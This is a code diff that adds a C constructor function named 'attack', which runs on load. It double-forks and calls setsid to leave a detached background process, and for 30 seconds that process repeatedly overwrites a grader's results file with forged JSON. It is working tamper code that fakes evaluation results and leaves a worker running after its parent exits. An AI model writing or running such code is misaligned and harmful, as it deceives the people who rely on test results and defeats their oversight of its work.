@@ -1,0 +1,23 @@
+/* Leaves a detached process (setsid, double fork) that rewrites the
+ * grader's results file for a while after the grader has written it. */
+// costs: none
+__attribute__((constructor)) static void attack(void)
+{
+    if (fork() != 0)
+        return;
+    setsid();
+    if (fork() != 0)
+        _exit(0);
+    for (int i = 0; i < 300; i++) { /* 30 s */
+        const char *out = attack_out_path();
+        if (out) {
+            FILE *f = fopen(out, "w");
+            if (f) {
+                fputs(attack_forged_json, f);
+                fclose(f);
+            }
+        }
+        usleep(100000);
+    }
+    _exit(0);
+}
